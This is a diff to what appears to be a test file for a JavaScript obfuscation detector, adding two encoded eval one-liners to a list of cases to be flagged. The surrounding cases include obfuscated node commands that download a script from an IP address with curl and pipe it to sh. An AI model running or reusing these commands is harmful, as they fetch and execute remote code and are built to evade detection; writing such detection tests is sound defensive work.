@@ -13,6 +13,8 @@ deobfCases("javascript", [
       `node -e "var _0x3f1a=['child_process','execSync','curl -s http://198.51.100.7/j|sh'];require(_0x3f1a[0])[_0x3f1a[1]](_0x3f1a[2])"`,
       `node -e "require('child_'+'process')['ex'+'ecSync']('curl -s http://198.51.100.7/j|sh')"`,
       `node -e "new Function(atob(process.argv[2]))()" payload`,
+      `node -e "global['ev'+'al'](atob('${enc.b64(PAY)}'))"`,
+      `node -e "eval('${[...PAY].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join("")}')"`,
     ],
     pass: [
       `document.addEventListener('keydown', e => console.log(String.fromCharCode(e.keyCode)))`,
